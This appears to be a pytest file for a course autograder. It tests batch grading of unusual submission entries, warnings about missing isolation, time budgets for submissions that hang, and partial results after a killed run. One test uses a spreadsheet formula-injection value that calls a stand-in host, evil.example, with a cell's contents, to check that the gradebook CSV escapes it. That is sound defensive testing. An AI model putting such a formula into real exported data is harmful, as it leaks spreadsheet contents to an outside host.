"""Batches and time: every entry under ROOT is a row, time is bounded, killed runs leave valid results."""

from __future__ import annotations

import csv
import importlib
import inspect
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from autograder.engine import grade_submission, interrupted_results
from autograder.results import parse_results
from autograder.sandbox import Limits
from dlnp.manifest import load_manifest
from instructor.submissions import make_submission

KIT = Path(__file__).resolve().parent.parent
MANIFEST = load_manifest()
HYPERLINK = '=HYPERLINK("evil.example?"&A1,"click")'


def instructor(*args: str, timeout: float = 600) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "instructor", *args], cwd=KIT, capture_output=True, text=True,
                          env=dict(os.environ, PYTHONPATH=str(KIT)), timeout=timeout, check=False)


def looping_patches(names: list[str]) -> dict[str, str]:
    """Replacement definitions of ``names`` that never return (classes loop in ``__init__``)."""
    patches: dict[str, str] = {}
    for name in names:
        reference = getattr(importlib.import_module(f"solutions.{MANIFEST.modules[name]}"), name)
        if inspect.isclass(reference):
            patches[name] = (f"class {name}:\n    def __init__(self, *args, **kwargs):\n"
                             "        while True:\n            pass\n")
        else:
            patches[name] = f"def {name}(*args, **kwargs):\n    while True:\n        pass\n"
    return patches


def test_every_entry_under_root_ends_as_a_row(release: Path, tmp_path: Path) -> None:
    root = tmp_path / "subs"
    make_submission(release, root / "alice")
    make_submission(release, Path(os.fsdecode(os.fsencode(root) + b"/caf\xe9")))  # not UTF-8
    make_submission(release, root / ".dotted")
    make_submission(release, root / HYPERLINK)
    (root / "empty").mkdir()
    (root / "notes.txt").write_text("not a submission")
    (root / "link").symlink_to(root / "alice")
    os.mkfifo(root / "pipe")
    proc = instructor("grade-batch", str(root), "--out", str(tmp_path / "graded"), "--chapter", "0", "--jobs", "2",
                      "--no-progress")
    assert proc.returncode == 1, proc.stderr[-3000:]  # some entries could not be graded, and it says so
    assert "4 could not be graded completely" in proc.stdout
    rows = list(csv.reader((tmp_path / "graded" / "gradebook.csv").open(encoding="utf-8")))
    assert rows[0][-1] == "note"
    by_name = {r[0]: r for r in rows[1:]}
    points = str(MANIFEST.chapter("0").points)
    graded = ["alice", "caf\\xe9", ".dotted", "'" + HYPERLINK]
    assert sorted(by_name) == sorted([*graded, "empty", "notes.txt", "link", "pipe"])
    for name in graded:
        assert by_name[name][1:3] == [points, points], (name, by_name[name])
        assert "NOT GRADED" not in by_name[name][-1]
    assert "no neural_network/ package" in by_name["empty"][-1]
    assert "a file" in by_name["notes.txt"][-1]
    assert "a symbolic link" in by_name["link"][-1]
    assert "a named pipe" in by_name["pipe"][-1]
    for name in ["alice", "caf\\xe9", ".dotted", HYPERLINK, "empty", "notes.txt", "link", "pipe"]:
        assert (tmp_path / "graded" / "feedback" / f"{name}.md").is_file(), name
        parse_results(json.loads((tmp_path / "graded" / "results" / f"{name}.json").read_text()))
    assert "no neural_network/ package" in (tmp_path / "graded" / "feedback" / "empty.md").read_text()


def test_a_batch_without_isolation_says_so_in_the_cli_the_gradebook_and_the_feedback(
        release: Path, tmp_path: Path) -> None:
    make_submission(release, tmp_path / "subs" / "alice")
    graded = tmp_path / "graded"
    proc = instructor("grade-batch", str(tmp_path / "subs"), "--out", str(graded), "--chapter", "0",
                      "--isolation", "none", "--no-progress")
    sandbox = json.loads((graded / "results" / "alice.json").read_text())["sandbox"]
    if sandbox.get("isolated"):
        # A root grader without namespaces isolates by a dedicated unprivileged uid (docs/SECURITY.md):
        # nothing to warn about; the warning path itself is covered in test_results_format.py.
        assert os.geteuid() == 0 and sandbox["isolation"] == "none"
        assert "NOT ISOLATED" not in proc.stdout and "NOT ISOLATED" not in (graded / "gradebook.csv").read_text()
        return
    assert "WARNING: NOT ISOLATED" in proc.stdout, proc.stdout + proc.stderr[-2000:]
    assert "1 of 1 submissions ran WITHOUT isolation" in proc.stdout
    rows = list(csv.reader((graded / "gradebook.csv").open()))
    assert rows[0][-1] == "note" and "NOT ISOLATED (isolation none)" in rows[1][-1]
    assert "WARNING: NOT ISOLATED" in (graded / "feedback" / "alice.md").read_text()
    assert json.loads((graded / "results" / "alice.json").read_text())["sandbox"]["isolation"] == "none"


def test_looping_functions_are_not_called_again_and_the_budget_bounds_the_submission(
        release: Path, tmp_path: Path) -> None:
    sub = make_submission(release, tmp_path / "loops", patches=looping_patches(list(MANIFEST.modules)))
    limits = Limits(call_seconds=2.0, cpu_seconds=1.0, test_seconds=3.0)
    budget = 12.0
    started = time.monotonic()
    results = grade_submission(sub, tmp_path / "loops.json", limits=limits, budget_seconds=budget)
    took = time.monotonic() - started
    assert took < budget + limits.test_seconds + 20, took  # the budget, one test, start-up and a loaded machine
    assert results["score"] == 0 and results["max_score"] == MANIFEST.max_score
    assert results["grading"]["complete"] and results["grading"]["budget_seconds"] == budget
    outputs = [t["output"] for t in results["tests"]]
    assert {t["extra_data"]["outcome"] for t in results["tests"]} == {"timeout"}
    again = [o for o in outputs if "was not called again" in o]
    not_run = [o for o in outputs if o.startswith("Not run: grading this submission may take at most 12 s")]
    waited = [o for o in outputs if o not in again and o not in not_run and "was not run" not in o]
    assert again and not_run, outputs[:5]
    timed_out = results["grading"]["timed_out"]
    assert timed_out and len(waited) <= len(timed_out), (waited, timed_out)  # each function waited for once
    assert "layer_output" in timed_out


def test_a_module_whose_import_hangs_is_waited_for_once(release: Path, tmp_path: Path) -> None:
    sub = make_submission(release, tmp_path / "hangs")
    losses = sub / "neural_network" / "losses.py"
    losses.write_text(losses.read_text() + "\nwhile True:\n    pass\n")
    limits = Limits(call_seconds=2.0, cpu_seconds=1.0, test_seconds=3.0)
    started = time.monotonic()
    results = grade_submission(sub, chapters=["1.3", "2.1"], limits=limits)
    took = time.monotonic() - started
    tests = {t["extra_data"]["function"]: t for t in results["tests"]}
    assert results["chapters"]["1.3"]["score"] == results["chapters"]["1.3"]["max_score"] > 0  # another module
    lost = [t for t in results["tests"] if t["number"] == "2.1"]
    assert len(lost) >= 4 and all(t["extra_data"]["outcome"] == "timeout" for t in lost)
    waits = [t["output"] for t in lost if "was not called" not in t["output"]]
    assert len(waits) == 1 and "importing neural_network/losses.py" in waits[0], waits  # waited for once
    assert any("importing its module losses.py did not finish" in t["output"] for t in lost)
    assert "sigmoid" in tests and took < 30, took
    assert "importing neural_network/losses.py" in results["grading"]["timed_out"], results["grading"]


def test_a_grading_that_stops_keeps_its_partial_results_marked_incomplete(tmp_path: Path) -> None:
    ids = [c.id for c in MANIFEST.chapters]
    stopped = interrupted_results(None, "the grading process stopped", chapter_ids=ids, salt="s", chapters=None,
                                  budget_seconds=60.0)
    assert stopped["score"] == 0 and not stopped["grading"]["complete"]
    assert stopped["grading"]["problems"] == ["the grading process stopped"]
    assert stopped["grading"]["budget_seconds"] == 60.0 and len(stopped["grading"]["kit_sha256"]) == 64
    partial = json.loads(json.dumps(stopped))
    partial["tests"] = [{"name": "0 layer_output: x", "number": "0", "score": 1.0, "max_score": 1.0,
                         "status": "passed", "output": "", "visibility": "visible",
                         "extra_data": {"function": "layer_output", "outcome": "passed"}}]
    partial["score"] = partial["max_score"] = 1.0
    partial["grading"].update(complete=True, problems=[])
    kept = interrupted_results(parse_results(partial), "killed after 400 s", chapter_ids=ids, salt="s",
                               chapters=None, budget_seconds=60.0)
    assert kept["score"] == 1.0 and len(kept["tests"]) == 1
    assert not kept["grading"]["complete"] and kept["grading"]["problems"] == ["killed after 400 s"]
    assert kept["output"].startswith("Grading stopped early: killed after 400 s")


def test_a_killed_grading_leaves_valid_partial_results(release: Path, tmp_path: Path) -> None:
    sub = make_submission(release, tmp_path / "slow", patches=looping_patches(["accuracy"]))
    out = tmp_path / "out" / "results.json"
    proc = subprocess.Popen([sys.executable, "-m", "instructor", "grade", str(sub), "--out", str(out)], cwd=KIT,
                            env=dict(os.environ, PYTHONPATH=str(KIT)), stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 120
        while not out.exists():
            assert time.monotonic() < deadline and proc.poll() is None, "no partial results were written"
            time.sleep(0.02)
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    results = parse_results(json.loads(out.read_text()))
    assert not results["grading"]["complete"]
    assert any("partial results" in p for p in results["grading"]["problems"])
    outcomes = [t["extra_data"]["outcome"] for t in results["tests"]]
    assert "not_run" in outcomes and "passed" in outcomes
    assert results["max_score"] == MANIFEST.max_score  # the tests not reached are listed, worth 0 so far
    assert results["score"] == sum(t["score"] for t in results["tests"]) > 0
    assert not [p for p in out.parent.iterdir() if p.name != "results.json"]  # no temporary file left behind


@pytest.mark.slow
@pytest.mark.skipif(not os.environ.get("DLNP_LONG_TESTS"), reason="takes minutes: set DLNP_LONG_TESTS=1")
def test_a_submission_whose_every_function_loops_is_graded_within_five_minutes(
        release: Path, tmp_path: Path) -> None:
    """With the default limits and budget. Measured on 2 cores shared with other jobs (load
    average 12): 217 s, the budget (180 s) plus the test that was running when it ran out."""
    sub = make_submission(release, tmp_path / "loops", patches=looping_patches(list(MANIFEST.modules)))
    started = time.monotonic()
    proc = instructor("grade", str(sub), "--out", str(tmp_path / "r.json"), timeout=400)
    took = time.monotonic() - started
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert took < 300, took
    shutil.rmtree(sub)
